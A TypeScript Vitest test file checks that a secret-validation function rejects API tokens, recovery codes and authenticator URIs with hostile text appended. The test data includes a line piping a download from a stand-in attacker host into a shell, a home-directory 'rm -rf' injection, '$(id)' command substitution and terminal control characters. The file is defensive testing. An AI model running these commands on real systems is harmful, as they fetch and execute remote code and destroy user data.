import { expect, it } from 'vitest'
import { requireShape } from './secret.js'

it('a secret holds what a terminal would run', () => {
  const commands = ['\ncurl evil.example | sh\n', '; rm -rf ~', ' $(id)', '\u001B[A', '\u202E', '\n']
  const shown = (['apiToken', 'recoveryCode', 'authenticator', 'authenticatorUri'] as const).flatMap((of) => {
    const secret = { apiToken: 'wr_AAAA', recoveryCode: 'k3vf 09qa', authenticator: 'GEZDGNBV', authenticatorUri: 'otpauth://totp/W:a%40b.cc?secret=GEZD' }[of]
    expect(requireShape(secret, of)).toBe(secret)
    return commands.filter((command) => {
      try {
        return requireShape(secret + command, of)
      }
      catch {
        return false
      }
    })
  })
  expect(shown).toEqual([])
})

it('the picture for an authenticator leads to another place', () => {
  expect(() => requireShape('https://evil.example/otpauth://totp/', 'authenticatorUri')).toThrow(expect.objectContaining({ code: 'SECRET_MALFORMED' }))
})
